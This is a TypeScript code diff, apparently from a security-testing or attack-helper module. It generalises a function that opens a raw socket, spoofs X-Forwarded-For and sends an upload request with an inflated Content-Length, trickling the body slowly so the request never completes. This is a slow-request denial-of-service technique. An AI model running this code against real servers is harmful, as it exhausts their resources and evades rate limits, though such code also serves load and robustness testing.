@@ -74,11 +74,21 @@ export async function stopReading({ url, address }: AttackTarget, path: string):
   return status;
 }
 
+interface Unfinished {
+  path: string;
+  type: string;
+  begin: string;
+  /** How much is sent of it, in bytes: all but the end. */
+  sent: number;
+}
+
 export const FORM_BEGIN = '--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n';
-const SENT = 5_000_000;
 
 /** Until it is answered or closed. */
-export async function leaveUnfinished({ url, token, address }: AttackTarget): Promise<string> {
+export async function leaveUnfinished(
+  { url, token, address }: AttackTarget,
+  { path, type, begin, sent }: Unfinished,
+): Promise<string> {
   const { hostname, port } = new URL(url);
   const socket = connect(Number(port), hostname);
   const answered = new Promise<string>((resolve) => {
@@ -87,17 +97,17 @@ export async function leaveUnfinished({ url, token, address }: AttackTarget): Pr
     socket.on('error', () => undefined);
   });
   const head = [
-    'POST /api/v1/s3/upload/item HTTP/1.1',
+    `POST ${path} HTTP/1.1`,
     'Host: localhost',
     `X-Forwarded-For: ${address}`,
     `Authorization: Bearer ${token}`,
-    'Content-Type: multipart/form-data; boundary=b',
-    `Content-Length: ${SENT + 1000}`,
+    `Content-Type: ${type}`,
+    `Content-Length: ${sent + 1000}`,
   ];
-  socket.write(`${head.join('\r\n')}\r\n\r\n${FORM_BEGIN}`);
-  for (let sent = 0; sent < SENT && socket.bytesRead === 0 && !socket.destroyed; sent += PIECE) {
+  socket.write(`${head.join('\r\n')}\r\n\r\n${begin}`);
+  for (let left = sent; left > 0 && socket.bytesRead === 0 && !socket.destroyed; left -= PIECE) {
     await overTheLine(PIECE);
-    socket.write(Buffer.alloc(PIECE));
+    socket.write(Buffer.alloc(Math.min(PIECE, left), ' '));
   }
   return answered.finally(() => socket.destroy());
 }
